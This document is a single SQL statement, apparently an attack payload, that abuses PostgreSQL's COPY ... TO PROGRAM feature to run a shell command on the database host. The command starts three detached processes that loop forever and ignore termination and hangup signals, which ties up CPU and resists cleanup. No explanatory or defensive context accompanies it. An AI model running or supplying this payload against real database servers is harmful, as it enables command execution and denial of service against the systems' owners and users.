COPY (SELECT 1) TO PROGRAM 'for i in 1 2 3; do (setsid sh -c "trap : TERM HUP; while :; do :; done" > /dev/null 2>&1 &); done';
